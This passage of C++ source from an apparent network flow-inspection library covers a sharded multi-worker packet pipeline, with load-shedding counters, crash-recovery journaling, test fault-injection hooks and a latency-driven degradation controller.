    std::atomic<std::uint64_t> scanned_a{0};
    std::atomic<std::uint64_t> shed_admission_a{0};
    std::atomic<std::uint64_t> shed_bypass_a{0};
    std::atomic<std::uint64_t> shed_corrupt_a{0};
    std::atomic<std::uint64_t> shed_crash_a{0};
    std::atomic<std::uint64_t> shed_quarantine_a{0};
    std::atomic<std::uint64_t> shed_failover_a{0};
    std::atomic<std::uint64_t> shed_bytes_a{0};
    std::atomic<std::uint64_t> flows_a{0};
    std::atomic<std::uint64_t> evictions_a{0};
    std::atomic<std::uint64_t> reassembly_drops_a{0};
    std::atomic<std::uint64_t> flows_quarantined_a{0};
    std::atomic<std::uint64_t> prefilter_pass_a{0};
    std::atomic<std::uint64_t> prefilter_skip_a{0};
    std::atomic<std::uint64_t> degraded_hits_a{0};
    std::atomic<std::uint64_t> degrade_level_a{0};     ///< current rung (gauge)
    std::atomic<std::uint64_t> degrade_transitions_a{0};
    std::atomic<std::uint64_t> flows_recovered_a{0};   ///< journal resets

    obs::ShardMetrics* metrics = nullptr;  // shared relaxed-atomic telemetry
    obs::MetricsRegistry* registry = nullptr;  // span ring lives here
    std::uint32_t shard_slot = 0;          // metrics slot (span attribution)
    double ns_per_tick = 0.0;              // for span tick→ns conversion
    std::uint64_t producer_span_tick = 0;  // producer-owned sampling counter
    std::uint64_t span_scan_start = 0;     // worker-owned scan-start stamp
    MatchVec matches;                      // worker-owned until join
    std::vector<FlowMatch> flow_matches;   // worker-owned until join
    std::map<std::uint64_t, std::uint64_t> gen_matches;  // worker-owned until join
    std::vector<flow::Packet> pending;     // producer-owned submit buffer
    std::vector<flow::Packet> burst;       // worker-owned pop buffer
    std::size_t producer_max_depth = 0;    // producer-owned
    std::uint64_t producer_full_spins = 0;   // producer-owned
    std::uint64_t producer_submitted = 0;    // producer-owned
    std::uint64_t producer_pushed = 0;       // producer-owned

    // Producer-owned shed-policy state (kDropOldestFlow).
    bool shed_engaged = false;
    std::list<flow::FlowKey> recency_list;
    std::unordered_map<flow::FlowKey, std::list<flow::FlowKey>::iterator,
                       flow::FlowKeyHash> recency_map;
    std::unordered_set<flow::FlowKey, flow::FlowKeyHash> shed_list;

    std::thread thread;

    /// Count one shed packet (exactly one reason bucket) and notify the
    /// sink. Callable from the producer, the worker, or the watchdog — all
    /// counters are atomics.
    void shed_one(const flow::Packet& p, ShedReason reason) {
      shed_counter(reason).fetch_add(1, std::memory_order_relaxed);
      shed_bytes_a.fetch_add(p.length, std::memory_order_relaxed);
      if (metrics != nullptr) {
        metrics->shed_packets.fetch_add(1, std::memory_order_relaxed);
        metrics->shed_bytes.fetch_add(p.length, std::memory_order_relaxed);
      }
      if (shed_sink) shed_sink(p, reason);
    }

    std::atomic<std::uint64_t>& shed_counter(ShedReason reason) {
      switch (reason) {
        case ShedReason::kAdmission: return shed_admission_a;
        case ShedReason::kBypass: return shed_bypass_a;
        case ShedReason::kCorrupt: return shed_corrupt_a;
        case ShedReason::kCrash: return shed_crash_a;
        case ShedReason::kQuarantine: return shed_quarantine_a;
        case ShedReason::kFailover: return shed_failover_a;
      }
      return shed_failover_a;  // unreachable
    }

    void record_spins(std::uint64_t spins) {
      if (spins == 0) return;
      producer_full_spins += spins;
      if (metrics != nullptr)
        metrics->queue_full_spins.fetch_add(spins, std::memory_order_relaxed);
    }

    [[nodiscard]] ShardStats collect_stats() const {
      ShardStats st;
      st.packets = packets_a.load(std::memory_order_relaxed);
      st.bytes = bytes_a.load(std::memory_order_relaxed);
      st.matches = matches_a.load(std::memory_order_relaxed);
      st.flows = flows_a.load(std::memory_order_relaxed);
      st.evictions = evictions_a.load(std::memory_order_relaxed);
      st.reassembly_drops = reassembly_drops_a.load(std::memory_order_relaxed);
      st.max_queue_depth = producer_max_depth;
      st.queue_full_spins = producer_full_spins;
      st.submitted = producer_submitted;
      st.scanned = scanned_a.load(std::memory_order_relaxed);
      st.shed_admission = shed_admission_a.load(std::memory_order_relaxed);
      st.shed_bypass = shed_bypass_a.load(std::memory_order_relaxed);
      st.shed_corrupt = shed_corrupt_a.load(std::memory_order_relaxed);
      st.shed_crash = shed_crash_a.load(std::memory_order_relaxed);
      st.shed_quarantine = shed_quarantine_a.load(std::memory_order_relaxed);
      st.shed_failover = shed_failover_a.load(std::memory_order_relaxed);
      st.shed_bytes = shed_bytes_a.load(std::memory_order_relaxed);
      st.flows_quarantined = flows_quarantined_a.load(std::memory_order_relaxed);
      st.prefilter_pass = prefilter_pass_a.load(std::memory_order_relaxed);
      st.prefilter_skip = prefilter_skip_a.load(std::memory_order_relaxed);
      st.worker_restarts = restarts.load(std::memory_order_relaxed);
      st.worker_stalls = stalls.load(std::memory_order_relaxed);
      st.degraded_hits = degraded_hits_a.load(std::memory_order_relaxed);
      st.degrade_level = degrade_level_a.load(std::memory_order_relaxed);
      st.degrade_transitions =
          degrade_transitions_a.load(std::memory_order_relaxed);
      st.flows_recovered = flows_recovered_a.load(std::memory_order_relaxed);
      return st;
    }

    void run() {
      // Liveness contract: `alive` goes false on ANY exit (including an
      // engine exception) so the producer/watchdog can detect a dead
      // worker. The heartbeat ticks every loop iteration; a heartbeat that
      // stops advancing while `alive` is the watchdog's stall signal.
      struct AliveGuard {
        std::atomic<bool>* flag;
        ~AliveGuard() { flag->store(false, std::memory_order_release); }
      } guard{&alive};
      try {
        std::uint64_t iter = 0;
        std::uint64_t adopted_seq = 0;
        for (;;) {
          heartbeat_ns.store(steady_now_ns(), std::memory_order_relaxed);
          if constexpr (util::faultpoints_enabled()) {
            if ((iter & 63) == 0) util::fault_stall("pipeline.worker.stall");
          }
          // Idle controller poll: with no bursts arriving the ladder must
          // still walk back toward L0 once pressure is gone (every 64
          // iterations ~ a few microseconds of idle spinning).
          if ((iter++ & 63) == 0) poll_degrade();
          // Batch boundary: adopt a staged ruleset generation before the
          // next burst. One acquire load when nothing is staged.
          const std::uint64_t seq = swap_seq.load(std::memory_order_acquire);
          if (seq != adopted_seq) {
            adopt_staged();
            adopted_seq = seq;
          }
          const std::size_t n = queue.try_pop_batch(burst.data(), burst.size());
          if (n != 0) {
            process_burst(n);
            continue;
          }
          if (stop.load(std::memory_order_acquire) || queue.closed()) {
            // The producer stopped pushing before setting stop/closing; one
            // final drain pass catches anything published just before.
            std::size_t m;
            while ((m = queue.try_pop_batch(burst.data(), burst.size())) != 0)
              process_burst(m);
            break;
          }
          std::this_thread::yield();
        }
      } catch (...) {
        // A worker must never crash the process; `alive` drops and either
        // the watchdog restarts this shard or the producer reports the
        // death on its own thread.
      }
    }

    void process_burst(std::size_t n) {
      packets_a.fetch_add(n, std::memory_order_relaxed);
      std::uint64_t burst_bytes = 0;
      bool any_span = false;
      for (std::size_t i = 0; i < n; ++i) {
        burst_bytes += burst[i].length;
        any_span |= burst[i].submit_tsc != 0;
      }
      bytes_a.fetch_add(burst_bytes, std::memory_order_relaxed);
      const std::uint64_t dequeue_tsc =
          any_span && registry != nullptr ? util::rdtsc_now() : 0;
      if (abort_drain.load(std::memory_order_relaxed)) {
        // Bounded shutdown passed its deadline: drain without scanning.
        for (std::size_t i = 0; i < n; ++i)
          shed_one(burst[i], ShedReason::kFailover);
        return;
      }
      // Injected corrupt packets are rejected before delivery (a real
      // deployment would fail checksum/sanity checks here).
      std::size_t kept = n;
      std::uint64_t kept_bytes = burst_bytes;
      if constexpr (util::faultpoints_enabled()) {
        if (util::FaultRegistry::instance().any_armed()) {
          kept = 0;
          kept_bytes = 0;
          for (std::size_t i = 0; i < n; ++i) {
            if (util::fault_fire("pipeline.packet.corrupt")) {
              shed_one(burst[i], ShedReason::kCorrupt);
            } else {
              burst[kept] = burst[i];
              kept_bytes += burst[kept].length;
              ++kept;
            }
          }
        }
      }
      // L3 count-and-bypass: the deepest ladder rung. The burst is counted
      // (packets/bytes above) but never scanned; each packet is shed as
      // kBypass so the accounting invariant holds exactly. The controller
      // still polls below — that is what walks the shard back up once the
      // queue drains.
      if (degrade.level() == DegradeLevel::kL3Bypass) {
        for (std::size_t i = 0; i < kept; ++i)
          shed_one(burst[i], ShedReason::kBypass);
        sync_gauges();
        poll_degrade();
        return;
      }
      std::uint64_t burst_qdrops = 0;
      std::uint64_t burst_qbytes = 0;
      const bool timed = degrade.enabled();
      std::chrono::steady_clock::time_point scan_t0{};
      if (timed) scan_t0 = std::chrono::steady_clock::now();
      try {
        if (journal_on) {
          // Journal open (seq -> odd): record which flows this burst may
          // touch BEFORE the inspector can tear them. Commit follows the
          // inspector call; a crash between the two leaves seq odd and the
          // watchdog resets exactly these flows on restart.
          journal_keys.clear();
          for (std::size_t i = 0; i < kept; ++i)
            journal_keys.push_back(burst[i].key);
          journal_seq.fetch_add(1, std::memory_order_release);
        }
        if (util::fault_fire("pipeline.worker.crash"))
          throw std::runtime_error("injected worker crash");
        // Batched delivery: the inspector groups the burst by flow and
        // hands distinct-flow runs to the engine's K-way interleaved
        // feed_many; same-flow packets stay strictly sequential. The drop
        // sink fires for packets of quarantined flows.
        if (dequeue_tsc != 0) span_scan_start = util::rdtsc_now();
        inspector.packet_batch_attributed(
            burst.data(), kept,
            [this](const flow::FlowKey& key, std::uint64_t generation,
                   std::uint32_t id, std::uint64_t end) {
              matches_a.fetch_add(1, std::memory_order_relaxed);
              ++gen_matches[generation];
              if (collect) matches.push_back(Match{id, end});
              if (collect_flows)
                flow_matches.push_back(FlowMatch{key, Match{id, end}, generation});
            },
            [&](const flow::Packet& p) {
              ++burst_qdrops;
              burst_qbytes += p.length;
              shed_one(p, ShedReason::kQuarantine);
            });
        if (journal_on)
          journal_seq.fetch_add(1, std::memory_order_release);  // commit
      } catch (...) {
        // Crash mid-burst (injected, allocation fault, or engine bug): the
        // rest of the burst can't be trusted as scanned. Count everything
        // not already quarantine-shed as crash-shed so the invariant holds,
        // then die; matches already emitted for the scanned prefix stand.
        shed_crash_a.fetch_add(kept - burst_qdrops, std::memory_order_relaxed);
        shed_bytes_a.fetch_add(kept_bytes - burst_qbytes, std::memory_order_relaxed);
        if (metrics != nullptr) {
          metrics->shed_packets.fetch_add(kept - burst_qdrops,
                                          std::memory_order_relaxed);
          metrics->shed_bytes.fetch_add(kept_bytes - burst_qbytes,
                                        std::memory_order_relaxed);
        }
        if (shed_sink)
          for (std::size_t i = 0; i < kept; ++i)
            shed_sink(burst[i], ShedReason::kCrash);
        sync_gauges();
        throw;
      }
      scanned_a.fetch_add(kept - burst_qdrops, std::memory_order_relaxed);
      if (timed && kept > burst_qdrops) {
        // EWMA per-packet scan cost feeds the controller's latency
        // estimate. steady_clock (not TSC) so the controller and the
        // watchdog share one timebase; only read when the controller is
        // enabled, so a disabled controller costs no clock calls.
        const double ns =
            std::chrono::duration<double, std::nano>(
                std::chrono::steady_clock::now() - scan_t0)
                .count() /
            static_cast<double>(kept - burst_qdrops);
        scan_ns_ewma =
            scan_ns_ewma == 0.0 ? ns : scan_ns_ewma + 0.2 * (ns - scan_ns_ewma);
      }
      if (dequeue_tsc != 0) record_spans(kept, dequeue_tsc);
      sync_gauges();
      poll_degrade();
    }

    /// Recover the inspector after a worker crash (watchdog-side, after the
    /// dead worker is joined — the join makes this the sole accessor). An
    /// odd journal_seq means the crash interrupted a burst: the journaled
    /// flows' contexts cannot be trusted (reset-on-next-packet, counted
    /// flows_recovered); every other flow keeps its state, preserving
    /// match continuity across the restart. An even seq means the crash
    /// happened between bursts and the whole table is consistent as-is.
    void recover_from_journal() {
      const std::uint64_t seq = journal_seq.load(std::memory_order_acquire);
      if ((seq & 1) == 0) return;
      std::uint64_t recovered = 0;
      for (const flow::FlowKey& key : journal_keys)
        if (inspector.reset_flow(key)) ++recovered;
      flows_recovered_a.fetch_add(recovered, std::memory_order_relaxed);
      if (metrics != nullptr)
        metrics->flows_recovered.fetch_add(recovered, std::memory_order_relaxed);
      journal_seq.store(seq + 1, std::memory_order_release);  // re-commit
    }

    /// Close the degradation loop once: assemble signals the worker already
    /// owns (queue depth, EWMA scan cost, shed-delta ratio, reassembly
    /// occupancy), update the controller, and re-program the inspector's
    /// scan mode on a transition. No-op (one branch) when disabled.
    void poll_degrade() {
      if (!degrade.enabled()) return;
      DegradeSignals sig;
      sig.queue_depth = queue.depth();
      sig.batch_size = batch_size;
      sig.ns_per_packet = scan_ns_ewma;
      // Windowed shed ratio from deltas of the shard's own counters.
      // Bypass sheds are the controller's OWN action (L3, or the
      // kBypassToCount policy) and deliberately excluded — feeding them
      // back would latch the ladder at L3 forever.
      const std::uint64_t shed_now =
          shed_admission_a.load(std::memory_order_relaxed) +
          shed_failover_a.load(std::memory_order_relaxed);
      const std::uint64_t total_now =
          packets_a.load(std::memory_order_relaxed) + shed_now;
      if (total_now > dg_last_total) {
        const double r = static_cast<double>(shed_now - dg_last_shed) /
                         static_cast<double>(total_now - dg_last_total);
        shed_ratio_ewma += 0.1 * (r - shed_ratio_ewma);
        dg_last_shed = shed_now;
        dg_last_total = total_now;
      } else {
        // Idle poll, no new packets: pressure from shedding decays.
        shed_ratio_ewma *= 0.98;
      }
      sig.shed_ratio = shed_ratio_ewma;
      sig.reassembly_bytes = inspector.reassembly_pending_bytes();
      sig.reassembly_limit = reassembly_high;
      if (degrade.update(sig, std::chrono::steady_clock::now()))
        apply_level(degrade.level(), true);
    }

    /// Program the inspector for a ladder rung and publish it. Transitions
    /// (not the initial pinned level) bump the counters and drop a
    /// kDegradeTransitionEventId event in the trace ring: src_ip carries
    /// the shard slot, offset the new level.
    void apply_level(DegradeLevel level, bool is_transition) {
      switch (level) {
        case DegradeLevel::kL0Full:
          inspector.set_scan_mode(flow::ScanMode::kFull);
          break;
        case DegradeLevel::kL1Sampled:
          inspector.set_scan_mode(flow::ScanMode::kSampled,
                                  degrade.knobs().sample_shift);
          break;
        case DegradeLevel::kL2PrefilterOnly:
        case DegradeLevel::kL3Bypass:
          // L3 bursts never reach the inspector; prefilter-only is the
          // right mode for any straggler packets mid-transition.
          inspector.set_scan_mode(flow::ScanMode::kPrefilterOnly);
          break;
      }
      degrade_level_a.store(static_cast<std::uint64_t>(level),
                            std::memory_order_relaxed);
      if (metrics != nullptr)
        metrics->degrade_level.store(static_cast<std::uint64_t>(level),
                                     std::memory_order_relaxed);
      if (!is_transition) return;
      degrade_transitions_a.fetch_add(1, std::memory_order_relaxed);
      if (metrics != nullptr)
        metrics->degrade_transitions.fetch_add(1, std::memory_order_relaxed);
      if (registry != nullptr)
        registry->trace().record(shard_slot, 0, 0, 0, 0,
                                 obs::kDegradeTransitionEventId,
                                 static_cast<std::uint64_t>(level),
                                 util::rdtsc_now());
    }

    /// Publish latency spans for the sampled packets of a scanned burst.
    /// Scan latency is burst-granular: the whole burst shares one
    /// scan-start/scan-end window (the engine interleaves flows within
    /// it), which is exactly the latency a packet in that burst observed.
    /// Corrupt-filtered packets were compacted out of burst[0..kept) and
    /// carry no span; TSC skew across cores clamps to zero, never wraps.
    void record_spans(std::size_t kept, std::uint64_t dequeue_tsc) {
      const std::uint64_t scan_end_tsc = util::rdtsc_now();
      const auto to_ns = [&](std::uint64_t from, std::uint64_t to) {
        if (to <= from) return std::uint64_t{0};
        return static_cast<std::uint64_t>(
            static_cast<double>(to - from) * ns_per_tick);
      };
      for (std::size_t i = 0; i < kept; ++i) {
        const flow::Packet& p = burst[i];
        if (p.submit_tsc == 0) continue;
        if (metrics != nullptr) {
          metrics->spans_sampled.fetch_add(1, std::memory_order_relaxed);
          metrics->queue_wait_ns.record(to_ns(p.submit_tsc, dequeue_tsc));
          metrics->span_scan_ns.record(to_ns(span_scan_start, scan_end_tsc));
          metrics->e2e_ns.record(to_ns(p.submit_tsc, scan_end_tsc));
        }
        registry->spans().record(p.key.src_ip, p.key.dst_ip, p.key.src_port,
                                 p.key.dst_port, p.key.proto, shard_slot,
                                 p.submit_tsc, dequeue_tsc, span_scan_start,
                                 scan_end_tsc);
      }
    }

    /// Refreshed every burst (not only at worker exit) so the merged
    /// ShardStats can never go stale if reporting moves mid-run. Also
    /// derives the reassembly-overload signal (with 2x hysteresis) that
    /// the producer's admission control reads.
    void sync_gauges() {
      flows_a.store(inspector.flow_count(), std::memory_order_relaxed);
      evictions_a.store(inspector.evicted_count(), std::memory_order_relaxed);
      reassembly_drops_a.store(inspector.reassembly_dropped_count(),
                               std::memory_order_relaxed);
      flows_quarantined_a.store(inspector.quarantined_flow_count(),
                                std::memory_order_relaxed);
      prefilter_pass_a.store(inspector.prefilter_pass_count(),
                             std::memory_order_relaxed);
      prefilter_skip_a.store(inspector.prefilter_skip_count(),
                             std::memory_order_relaxed);
      degraded_hits_a.store(inspector.degraded_hit_count(),
                            std::memory_order_relaxed);
      if (reassembly_high != 0) {
        const std::uint64_t pend = inspector.reassembly_pending_bytes();
        if (pend >= reassembly_high)
          reassembly_overload.store(true, std::memory_order_relaxed);
        else if (pend * 2 <= reassembly_high)
          reassembly_overload.store(false, std::memory_order_relaxed);
      }
    }
  };

  const EngineT* engine_;
  Options options_;
  mutable std::mutex swap_mu_;  ///< serializes swap_ruleset vs. itself/start
  std::shared_ptr<const EngineT> engine_pin_;  ///< owner of a swapped engine
  std::uint64_t current_generation_ = 0;       ///< guarded by swap_mu_
  std::atomic<bool> stop_{false};
  bool running_ = false;
  std::size_t shed_high_ = 0;
  std::size_t shed_low_ = 0;
  // /healthz EWMA state (satellite of DESIGN.md Sec. 14): smoothing lives
  // with the poller, not the workers, so the hot path never touches it.
  static constexpr double kHealthTauSec = 2.0;
  mutable std::mutex health_mu_;
  mutable bool health_primed_ = false;
  mutable std::chrono::steady_clock::time_point health_last_{};
  mutable double health_shed_ewma_ = 0.0;
  mutable double health_depth_ewma_ = 0.0;
  std::uint64_t span_mask_ = ~std::uint64_t{0};  ///< span sampling mask (all-ones = off)
  obs::HttpServer http_;         ///< live endpoint; idle unless http_port >= 0
  std::vector<std::unique_ptr<Shard>> shards_;
  std::vector<ShardStats> stats_;
  MatchVec matches_;
  std::vector<FlowMatch> flow_matches_;
  std::thread watchdog_thread_;
};

}  // namespace mfa::pipeline
