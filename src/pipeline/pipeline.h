// Sharded multi-worker flow inspection (ROADMAP: sharding/async scaling).
//
// One immutable Engine (built once, shared read-only) serves N worker
// threads. Each worker owns a private FlowInspector — a flow table of small
// per-flow Contexts, the paper's (q, m) pairs — and a bounded SPSC packet
// queue. The dispatcher hashes each packet's FlowKey to a shard, so every
// flow is pinned to exactly one worker: flow tables need no locks, and the
// only cross-thread traffic is the queues themselves. The hot path is
// batched end to end (DESIGN.md Sec. 7): submit() buffers per shard and
// flushes bursts with one queue release-store, workers pop bursts and run
// them through FlowInspector::packet_batch, which interleaves distinct
// flows through the engine's K-way feed_many kernel. Matches and stats
// accumulate shard-locally and are merged after finish(); attaching an
// obs::MetricsRegistry (Options::metrics) additionally mirrors every
// counter into lock-free telemetry readable mid-run via snapshot().
//
// Thread-safety contract (see DESIGN.md "Engine/Context split & pipeline"):
//  - Engines are immutable after construction and shareable across threads.
//  - Contexts (and the FlowInspectors holding them) are confined to one
//    shard's worker thread.
//  - submit() must be called from a single producer thread; packet payload
//    pointers must stay valid until finish() returns (Trace owns them).
#pragma once

#include <algorithm>
#include <atomic>
#include <cstdint>
#include <memory>
#include <stdexcept>
#include <thread>
#include <vector>

#include "flow/flow.h"
#include "obs/metrics.h"
#include "pipeline/spsc_queue.h"
#include "util/match.h"

namespace mfa::pipeline {

/// Per-shard accounting, merged by the dispatcher after finish().
/// flows/evictions/reassembly_drops are refreshed on every processed packet
/// (not only at worker exit), so the values are never stale; for reading
/// them mid-run, attach an obs::MetricsRegistry and use snapshot().
struct ShardStats {
  std::uint64_t packets = 0;
  std::uint64_t bytes = 0;
  std::uint64_t matches = 0;
  std::uint64_t flows = 0;             ///< flows resident after the last packet
  std::uint64_t evictions = 0;         ///< flow-table LRU evictions
  std::uint64_t reassembly_drops = 0;  ///< segments dropped by the pending cap
  std::uint64_t max_queue_depth = 0;   ///< high-water mark of the SPSC queue
  std::uint64_t queue_full_spins = 0;  ///< producer spins while the queue was full

  ShardStats& operator+=(const ShardStats& o) {
    packets += o.packets;
    bytes += o.bytes;
    matches += o.matches;
    flows += o.flows;
    evictions += o.evictions;
    reassembly_drops += o.reassembly_drops;
    max_queue_depth = max_queue_depth > o.max_queue_depth ? max_queue_depth
                                                          : o.max_queue_depth;
    queue_full_spins += o.queue_full_spins;
    return *this;
  }
};

struct Options {
  std::size_t shards = 1;
  std::size_t queue_capacity = 4096;  ///< per-shard SPSC ring slots
  std::size_t max_flows_per_shard = 0;  ///< 0 = unbounded flow tables
  std::size_t max_pending_per_flow = flow::kDefaultMaxPendingBytes;
  /// Packet batching (DESIGN.md Sec. 7): submit() buffers up to this many
  /// packets per shard before flushing them into the SPSC queue in one
  /// burst, and each worker pops/processes bursts of the same size through
  /// FlowInspector::packet_batch. 1 disables batching (per-packet push/pop).
  std::size_t batch_size = 32;
  /// Interleave width K for the workers' batched scans (engines with
  /// feed_many); see DESIGN.md Sec. 7 on K selection.
  std::size_t scan_lanes = scan::kDefaultLanes;
  bool collect_matches = false;  ///< keep full Match records (else count only)
  /// Optional telemetry root (externally owned, must outlive the inspector).
  /// Shard i writes into metrics->shard(i % metrics->shard_count()); when
  /// null the hot path pays one untaken branch per packet.
  obs::MetricsRegistry* metrics = nullptr;
};

/// Hash-sharded multi-threaded inspector over any Engine/Context engine.
template <typename EngineT>
class ShardedInspector {
 public:
  using FlowKey = flow::FlowKey;

  explicit ShardedInspector(const EngineT& engine, Options options = {})
      : engine_(&engine), options_(options) {
    if (options_.shards == 0) options_.shards = 1;
    if (options_.batch_size == 0) options_.batch_size = 1;
  }

  ~ShardedInspector() { finish(); }

  ShardedInspector(const ShardedInspector&) = delete;
  ShardedInspector& operator=(const ShardedInspector&) = delete;

  /// Spawn the worker threads. Must be called before submit().
  void start() {
    if (running_) return;
    shards_.clear();
    stats_.clear();
    matches_.clear();
    stop_.store(false, std::memory_order_relaxed);
    for (std::size_t i = 0; i < options_.shards; ++i)
      shards_.push_back(std::make_unique<Shard>(*engine_, options_, stop_, i));
    for (auto& shard : shards_) {
      shard->alive.store(true, std::memory_order_release);
      shard->thread = std::thread([s = shard.get()] { s->run(); });
    }
    running_ = true;
  }

  /// Enqueue one packet to its flow's shard (single producer thread).
  /// Packets buffer per shard and flush into the SPSC queue in bursts of
  /// Options::batch_size; a full queue spins (yielding) — backpressure
  /// instead of drops, so match results stay deterministic. Full-spins are
  /// counted: a sustained non-zero rate means the shard cannot keep up. The
  /// spin periodically verifies the shard's worker is still alive and
  /// throws std::runtime_error if it died, so a dead worker surfaces as an
  /// error instead of deadlocking the producer.
  ///
  /// Only legal between start() and finish(): anything else is a contract
  /// violation (the shards do not exist) and throws std::logic_error.
  void submit(const flow::Packet& p) {
    if (!running_)
      throw std::logic_error(
          "ShardedInspector::submit() outside start()/finish() — no shards exist");
    Shard& s = *shards_[shard_of(p.key)];
    s.pending.push_back(p);
    if (s.pending.size() >= options_.batch_size) flush_shard(s);
    const std::size_t depth = s.queue.depth();
    if (depth > s.producer_max_depth) s.producer_max_depth = depth;
    if (s.metrics != nullptr) {
      s.metrics->queue_depth.record(depth);
      s.metrics->max_queue_depth.store(s.producer_max_depth, std::memory_order_relaxed);
    }
  }

  /// Drain all queues, join the workers, and merge stats/matches.
  void finish() {
    if (!running_) return;
    for (auto& shard : shards_) flush_shard(*shard);
    stop_.store(true, std::memory_order_release);
    for (auto& shard : shards_) {
      if (shard->thread.joinable()) shard->thread.join();
      shard->stats.max_queue_depth = shard->producer_max_depth;
      shard->stats.queue_full_spins = shard->producer_full_spins;
      stats_.push_back(shard->stats);
      matches_.insert(matches_.end(), shard->matches.begin(), shard->matches.end());
    }
    shards_.clear();
    running_ = false;
  }

  /// True when an obs::MetricsRegistry is attached via Options::metrics.
  [[nodiscard]] bool telemetry_enabled() const { return options_.metrics != nullptr; }

  /// Live read of the attached registry — safe at any time, including while
  /// all workers are scanning (everything is relaxed atomics). Returns an
  /// empty snapshot when no registry is attached.
  [[nodiscard]] obs::RegistrySnapshot snapshot() const {
    return options_.metrics != nullptr ? options_.metrics->snapshot()
                                       : obs::RegistrySnapshot{};
  }

  [[nodiscard]] std::size_t shard_count() const { return options_.shards; }

  /// Per-shard stats; valid after finish().
  [[nodiscard]] const std::vector<ShardStats>& stats() const { return stats_; }

  /// Aggregate stats across shards; valid after finish().
  [[nodiscard]] ShardStats totals() const {
    ShardStats t;
    for (const auto& s : stats_) t += s;
    return t;
  }

  /// All shards' matches merged into (end, id) order; valid after finish()
  /// and only populated when Options::collect_matches is set.
  [[nodiscard]] MatchVec merged_matches() const {
    MatchVec all = matches_;
    std::sort(all.begin(), all.end());
    return all;
  }

  [[nodiscard]] std::size_t shard_of(const FlowKey& key) const {
    return flow::FlowKeyHash{}(key) % options_.shards;
  }

 private:
  struct Shard;

  /// Push a shard's buffered packets into its queue, spinning under
  /// backpressure. Every kLivenessCheckSpins spins the worker's liveness
  /// flag is consulted: a dead worker can never drain the queue, so the
  /// producer throws (or, from finish(), discards the remainder) instead of
  /// spinning forever.
  void flush_shard(Shard& s, bool from_finish = false) {
    static constexpr std::uint64_t kLivenessCheckSpins = 1024;
    std::size_t done = 0;
    std::uint64_t spins = 0;
    while (done < s.pending.size()) {
      done += s.queue.try_push_batch(s.pending.data() + done, s.pending.size() - done);
      if (done == s.pending.size()) break;
      ++spins;
      if (spins % kLivenessCheckSpins == 0 &&
          !s.alive.load(std::memory_order_acquire)) {
        s.pending.clear();
        if (from_finish) return;  // joining anyway; remainder is lost
        throw std::runtime_error(
            "ShardedInspector: shard worker died while its queue was full");
      }
      std::this_thread::yield();
    }
    s.pending.clear();
    if (spins != 0) {
      s.producer_full_spins += spins;
      if (s.metrics != nullptr)
        s.metrics->queue_full_spins.fetch_add(spins, std::memory_order_relaxed);
    }
  }

  struct Shard {
    Shard(const EngineT& engine, const Options& o, std::atomic<bool>& stop_flag,
          std::size_t index)
        : queue(o.queue_capacity),
          inspector(engine, o.max_flows_per_shard, o.max_pending_per_flow),
          batch_size(o.batch_size),
          collect(o.collect_matches),
          stop(&stop_flag) {
      inspector.set_batch_lanes(o.scan_lanes);
      pending.reserve(batch_size);
      burst.resize(batch_size);
      if (o.metrics != nullptr) {
        const std::size_t slot = index % o.metrics->shard_count();
        metrics = &o.metrics->shard(slot);
        inspector.set_metrics(o.metrics, slot);
      }
    }

    SpscQueue<flow::Packet> queue;
    flow::FlowInspector<EngineT> inspector;
    std::size_t batch_size;
    bool collect;
    std::atomic<bool>* stop;
    std::atomic<bool> alive{false};        ///< set by start(), cleared at run() exit
    obs::ShardMetrics* metrics = nullptr;  // producer-side queue telemetry
    MatchVec matches;          // worker-owned until join
    ShardStats stats;          // worker-owned until join
    std::vector<flow::Packet> pending;    // producer-owned submit buffer
    std::vector<flow::Packet> burst;      // worker-owned pop buffer
    std::size_t producer_max_depth = 0;   // producer-owned
    std::uint64_t producer_full_spins = 0;  // producer-owned
    std::thread thread;

    void run() {
      // Liveness contract: `alive` goes false on ANY exit (including an
      // engine exception) so a spinning producer can detect a dead worker.
      struct AliveGuard {
        std::atomic<bool>* flag;
        ~AliveGuard() { flag->store(false, std::memory_order_release); }
      } guard{&alive};
      try {
        for (;;) {
          const std::size_t n = queue.try_pop_batch(burst.data(), burst.size());
          if (n != 0) {
            process_burst(n);
            continue;
          }
          if (stop->load(std::memory_order_acquire)) {
            // The producer stopped pushing before setting stop; one final
            // drain pass catches anything published just before the flag.
            std::size_t m;
            while ((m = queue.try_pop_batch(burst.data(), burst.size())) != 0)
              process_burst(m);
            break;
          }
          std::this_thread::yield();
        }
      } catch (...) {
        // A worker must never crash the process; the producer sees `alive`
        // drop and reports the failure on its own thread.
      }
    }

    void process_burst(std::size_t n) {
      stats.packets += n;
      for (std::size_t i = 0; i < n; ++i) stats.bytes += burst[i].length;
      // Batched delivery: the inspector groups the burst by flow and hands
      // distinct-flow runs to the engine's K-way interleaved feed_many;
      // same-flow packets stay strictly sequential.
      inspector.packet_batch(burst.data(), n, [this](std::uint32_t id, std::uint64_t end) {
        ++stats.matches;
        if (collect) matches.push_back(Match{id, end});
      });
      // Refreshed every burst (not only at worker exit) so the merged
      // ShardStats can never go stale if reporting moves mid-run.
      stats.flows = inspector.flow_count();
      stats.evictions = inspector.evicted_count();
      stats.reassembly_drops = inspector.reassembly_dropped_count();
    }
  };

  const EngineT* engine_;
  Options options_;
  std::atomic<bool> stop_{false};
  bool running_ = false;
  std::vector<std::unique_ptr<Shard>> shards_;
  std::vector<ShardStats> stats_;
  MatchVec matches_;
};

}  // namespace mfa::pipeline
