#include "pipeline/degrade.h"

#include "util/faultpoint.h"

namespace mfa::pipeline {

const char* to_string(DegradeLevel level) {
  switch (level) {
    case DegradeLevel::kL0Full: return "L0-full";
    case DegradeLevel::kL1Sampled: return "L1-sampled";
    case DegradeLevel::kL2PrefilterOnly: return "L2-prefilter";
    case DegradeLevel::kL3Bypass: return "L3-bypass";
  }
  return "?";
}

bool DegradeController::update(const DegradeSignals& signals,
                               Clock::time_point now) {
  if (knobs_.force_level >= 0) return false;  // pinned: loop bypassed
  if (slo_.p99_ns == 0) return false;

  // Pressure = worst constraint, each normalized so 1.0 means "exactly at
  // the limit". Latency uses a queueing estimate rather than the measured
  // histogram: depth packets ahead of a new arrival plus one burst in
  // flight, each costing the EWMA scan time. This leads the measured p99
  // (it reacts within one burst of queue growth) which is what lets the
  // controller act before the SLO is already blown.
  const double est_ns =
      static_cast<double>(signals.queue_depth + signals.batch_size) *
      signals.ns_per_packet;
  double pressure = est_ns / static_cast<double>(slo_.p99_ns);
  if (slo_.max_shed_ratio > 0.0)
    pressure = std::max(pressure, signals.shed_ratio / slo_.max_shed_ratio);
  if (signals.reassembly_limit != 0)
